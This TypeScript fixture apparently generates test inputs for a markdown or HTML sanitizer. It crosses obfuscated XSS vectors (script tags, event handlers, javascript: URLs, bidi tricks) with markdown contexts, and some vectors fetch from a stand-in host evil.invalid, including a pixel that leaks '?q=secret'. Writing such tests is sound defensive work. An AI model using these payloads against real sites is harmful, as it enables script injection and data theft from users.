/** Addresses that must never be asked for anything. */
export const EVIL = 'https://evil.invalid';

const RUN = 'window.ran=1';

/** What somebody tries: to run a script, to have a request sent, to change the page. */
const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/pixel.png">`,
  `<svg onload="${RUN}"><use href="${EVIL}/x.svg#a"/></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>" src="${EVIL}"></iframe>`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<style>@import "${EVIL}/x.css"</style>`,
  `<form action="${EVIL}"><button autofocus onfocus="${RUN}">x</button></form>`,
  `<a href="javascript:${RUN}" ping="${EVIL}">x</a>`,
  `<base href="${EVIL}/"><meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/x">`,
  `<video poster="${EVIL}/p.png" src="${EVIL}/v.mp4" autoplay></video>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<slot name="greeting" onslotchange="${RUN}"></slot>`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](  javascript:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](data:text/html,<script>parent.${RUN}</script>)`,
  `[x](vbscript:${RUN})`,
  `[x](blob:${EVIL}/1)`,
  `[x](file:///etc/passwd)`,
  `[x](&#106;avascript:${RUN})`,
  `[x](https://a.example" onmouseover="${RUN})`,
  `![x](${EVIL}/pixel.png?q=secret)`,
  `![x](javascript:${RUN})`,
  `![x](data:image/svg+xml,<svg onload="${RUN}">)`,
  `[![x](${EVIL}/pixel.png)](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `![x][evil]\n\n[evil]: ${EVIL}/pixel.png`,
  `\${${RUN}} {{${RUN}}} #{${RUN}}`,
  `"><img src=x onerror=${RUN}>`,
  `\u202e<script>${RUN}</script>\u202c`,
];

/** Where it is tried. */
const CONTEXTS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `Some words ${vector} and more.`,
  (vector) => `**${vector}**`,
  (vector) => `*${vector}* _${vector}_`,
  (vector) => `# ${vector}`,
  (vector) => `- ${vector}\n- second`,
  (vector) => `> ${vector}`,
  (vector) => `\`${vector}\``,
  (vector) => `\`\`\`html\n${vector}\n\`\`\`\nafter`,
  (vector) => `\`\`\`${vector}\ncode\n\`\`\``,
  (vector) => `| a | b |\n|---|---|\n| ${vector} | 2 |\n\nend`,
  (vector) => `[${vector}](https://a.example/)`,
  (vector) => `[text](${vector})`,
  (vector) => `![${vector}](https://a.example/a.png)`,
  (vector) => `$${vector}$ \\(${vector}\\)`,
];

export const PAYLOADS = VECTORS.flatMap((vector) => CONTEXTS.map((context) => context(vector)));
